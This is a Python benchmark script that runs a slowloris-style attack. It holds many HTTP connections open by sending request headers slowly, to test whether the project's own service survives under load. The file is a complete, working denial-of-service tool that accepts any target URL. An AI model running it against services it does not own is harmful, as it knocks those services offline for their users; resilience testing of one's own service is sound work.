"""Attack on a service with requests that are never complete, as the tool slowloris does.

    python benchmarks/slow_clients.py URL [--connections 1000] [--interval 5] [--seconds 60]

Every connection sends one more header of its request per interval. A connection that the service has closed
is opened again at the next interval. At the end, the number of opened connections is printed. Use it for your
own service only. `serve_load.py --attack` runs this script during a load.
"""

from __future__ import annotations

import argparse
import asyncio
import random
import resource
import sys
import time
from contextlib import suppress
from urllib.parse import urlsplit

START = b"POST /v1/digitize HTTP/1.1\r\nHost: 127.0.0.1\r\n"
CONNECT_TIMEOUT_S = 10.0


async def attack(host: str, port: int, interval_s: float, until_s: float) -> int:
    """Hold one connection until the end time. Return how often it was opened."""
    opened = 0
    await asyncio.sleep(random.uniform(0, interval_s))
    while time.monotonic() < until_s:
        with suppress(OSError, TimeoutError):
            _, writer = await asyncio.wait_for(asyncio.open_connection(host, port), CONNECT_TIMEOUT_S)
            opened += 1
            writer.write(START)
            while time.monotonic() < until_s and not writer.is_closing():
                await asyncio.sleep(interval_s)
                writer.write(b"X-Header: 1\r\n")
                await writer.drain()
            writer.close()
        await asyncio.sleep(interval_s)
    return opened


async def attack_all(url: str, connections: int, interval_s: float, seconds: float) -> int:
    """Hold all connections. Return how many were opened in total."""
    address, until_s = urlsplit(url), time.monotonic() + seconds
    attackers = [
        attack(address.hostname or "", address.port or 80, interval_s, until_s) for _ in range(connections)
    ]
    return sum(await asyncio.gather(*attackers))


def main() -> None:
    """Parse the arguments and attack."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("url")
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--interval", type=float, default=5.0)
    parser.add_argument("--seconds", type=float, default=60.0)
    arguments = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    needed = arguments.connections + 100
    resource.setrlimit(resource.RLIMIT_NOFILE, (needed if hard < 0 else min(needed, hard), hard))
    opened = attack_all(arguments.url, arguments.connections, arguments.interval, arguments.seconds)
    sys.stdout.write(f"{asyncio.run(opened)}\n")


if __name__ == "__main__":
    main()
